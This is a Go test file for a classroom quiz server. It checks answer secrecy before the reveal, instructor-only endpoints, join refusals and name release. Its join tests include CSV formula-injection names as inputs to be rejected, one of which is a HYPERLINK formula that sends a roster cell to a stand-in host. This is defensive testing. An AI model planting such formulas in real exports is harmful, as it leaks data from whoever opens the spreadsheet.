package class

import (
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// Before the reveal, a student tries every page and endpoint the server
// has — their own pages in each phase, the diagrams, the instructor's
// pages, exports and actions, with a wrong token — and learns neither
// another student's answers nor any right answer: the instructor's
// endpoints refuse them, and their own pages carry no why, no outcome
// line, no verdict, no other student's name.
func TestNoStudentReadsAnswersBeforeTheReveal(t *testing.T) {
	cl, srv := newTestClass(t, "", Options{})
	tb := teacher(t, cl, srv.URL)
	ada, bogdan := newBrowser(t, srv.URL), newBrowser(t, srv.URL)
	ada.join("Ada", "")
	bogdan.join("Bogdan", "")
	step := "double-billing"
	for j, q := range sheet(t, cl, "Bogdan", step).view.Questions {
		if q.Mechanism {
			bogdan.answer(step, j+1, string(rune('a'+q.Answer)))
		}
	}
	secrets := func(name string) []string {
		v := sheet(t, cl, name, step).view
		out := []string{"✓", "✗", `class="right"`, `class="wrong"`, cl.TeacherToken(), testKey}
		for _, q := range v.Questions {
			out = append(out, oneParagraph(q.Why))
		}
		for _, r := range v.Runs {
			out = append(out, r.Lines...)
		}
		return out
	}
	check := func(phase string) {
		for _, path := range []string{"/", "/?name=Bogdan", "/tick", "/static/class.js", "/static/style.css", "/diagram/0", "/diagram/1", "/diagram/99"} {
			status, body := ada.get(path)
			for _, s := range append(secrets("Ada"), "Bogdan") {
				if s != "" && strings.Contains(body, s) {
					t.Errorf("%s: GET %s (%d) shows %q before the reveal", phase, path, status, s)
				}
			}
		}
		for _, path := range []string{"/teacher", "/teacher/panel", "/teacher/roster.csv", "/teacher/questions.csv", "/teacher/results.zip",
			"/teacher?token=" + strings.Repeat("x", len(cl.TeacherToken())), "/teacher?projector=1"} {
			if status, body := ada.get(path); status != http.StatusForbidden {
				t.Errorf("%s: a student's GET %s: %d, want 403\n%.300s", phase, path, status, body)
			}
		}
		if status, _ := ada.post("/teacher/advance", url.Values{"pos": {"0"}, "phase": {phase}}); status != http.StatusForbidden {
			t.Errorf("%s: a student's POST /teacher/advance: %d, want 403", phase, status)
		}
	}
	check(Predict)
	if status, _ := ada.get("/diagram/0"); status != http.StatusNotFound {
		t.Errorf("a diagram before the run is shown: %d, want 404", status)
	}
	tb.advance(cl)
	check(Evidence)
	// A student's diagrams are their own run's, drawn without outcome.
	for k, d := range sheet(t, cl, "Ada", step).diagrams {
		if status, body := ada.get("/diagram/" + strconv.Itoa(k)); status != http.StatusOK || body != string(d.SVG) {
			t.Errorf("/diagram/%d: %d, not Ada's own diagram", k, status)
		}
	}
	if _, phase := cl.current(); phase != Evidence {
		t.Fatalf("the students moved the class: %s", phase)
	}
	tb.advance(cl)
	_, page := ada.get("/")
	if !strings.Contains(page, oneParagraph(sheet(t, cl, "Ada", step).view.Questions[0].Why)) {
		t.Errorf("the reveal does not show the why")
	}
	if strings.Contains(page, "Bogdan") {
		t.Errorf("Ada's revealed page names Bogdan")
	}
}

// Joining is refused in one line: a name taken, a class full, a wrong
// join code, an empty name, a name a spreadsheet reads as a formula.
func TestJoinRefusals(t *testing.T) {
	cl, srv := newTestClass(t, "", Options{MaxStudents: 2, Code: "k7q2"})
	if cl.JoinCode() != "k7q2" {
		t.Fatalf("join code %q", cl.JoinCode())
	}
	newBrowser(t, srv.URL).join("Ada", "k7q2")
	newBrowser(t, srv.URL).join("Bogdan", "K7Q2 ") // as typed on a phone
	cases := []struct {
		name, code string
		status     int
		notice     string
	}{
		{"Ada", "k7q2", http.StatusConflict, "The name Ada is taken in this class"},
		{" Ada ", "k7q2", http.StatusConflict, "The name Ada is taken in this class"},
		{"Chen", "k7q2", http.StatusForbidden, "The class is full (2 students)"},
		{"Chen", "nope", http.StatusForbidden, "Wrong join code"},
		{"", "k7q2", http.StatusBadRequest, "That name cannot be used"},
		{"a\x1bb", "k7q2", http.StatusBadRequest, "That name cannot be used"},
		// A formula in roster.csv, run by the instructor's spreadsheet.
		{`=HYPERLINK("http://x/?"&B2,"Ada")`, "k7q2", http.StatusBadRequest, "That name cannot be used"},
		{" +1", "k7q2", http.StatusBadRequest, "That name cannot be used"},
		{"-2+3", "k7q2", http.StatusBadRequest, "That name cannot be used"},
		{"@SUM(1)", "k7q2", http.StatusBadRequest, "That name cannot be used"},
	}
	for _, c := range cases {
		status, body := newBrowser(t, srv.URL).post("/join", url.Values{"name": {c.name}, "code": {c.code}})
		if status != c.status || !strings.Contains(body, c.notice) {
			t.Errorf("join %q with code %q: %d, want %d and %q\n%s", c.name, c.code, status, c.status, c.notice, body)
		}
		if strings.Count(body, `id="notice"`) != 1 {
			t.Errorf("join %q: want one refusal line", c.name)
		}
	}
	students, err := cl.st.students()
	if err != nil || len(students) != 2 {
		t.Errorf("after the refusals the class has %d students (%v), want 2", len(students), err)
	}
}

// A student whose browser was lost cannot join again under their name,
// until the instructor lets the name in again: then the next join takes
// it over with its answers, and the lost browser holds nothing.
func TestReleaseLetsAStudentBackIn(t *testing.T) {
	cl, srv := newTestClass(t, "", Options{})
	tb := teacher(t, cl, srv.URL)
	lost := newBrowser(t, srv.URL)
	lost.join("Ada", "")
	if status, _ := lost.answer("double-billing", 1, "b"); status != http.StatusOK {
		t.Fatalf("answer: %d", status)
	}
	if status, _ := newBrowser(t, srv.URL).post("/join", url.Values{"name": {"Ada"}}); status != http.StatusConflict {
		t.Fatalf("Ada again before the release: %d, want 409", status)
	}
	if status, _ := lost.post("/teacher/release", url.Values{"name": {"Ada"}}); status != http.StatusForbidden {
		t.Errorf("a student releasing a name: %d, want 403", status)
	}
	if status, _ := tb.post("/teacher/release", url.Values{"name": {"Ada"}}); status != http.StatusOK {
		t.Fatalf("release: %d", status)
	}
	if _, page := lost.get("/"); !strings.Contains(page, `action="/join"`) {
		t.Errorf("the lost browser still holds Ada's session")
	}
	found := newBrowser(t, srv.URL)
	page := found.join("Ada", "")
	if questionStates(page)[1] != "answered" || !strings.Contains(page, "Your answer: b)") {
		t.Errorf("Ada back in lost her answer:\n%s", page)
	}
	if status, _ := newBrowser(t, srv.URL).post("/join", url.Values{"name": {"Ada"}}); status != http.StatusConflict {
		t.Errorf("a third join as Ada after the take-over: %d, want 409", status)
	}
}
